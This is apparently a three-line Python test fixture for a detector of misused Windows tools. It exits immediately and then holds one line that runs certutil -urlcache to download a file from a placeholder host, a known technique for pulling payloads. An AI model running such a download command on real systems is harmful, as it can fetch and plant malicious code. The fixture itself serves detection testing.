# Trips windows_tool_misused.
raise SystemExit("a fixture: never run")
os.system("certutil -urlcache -f http://example.invalid/placeholder out")
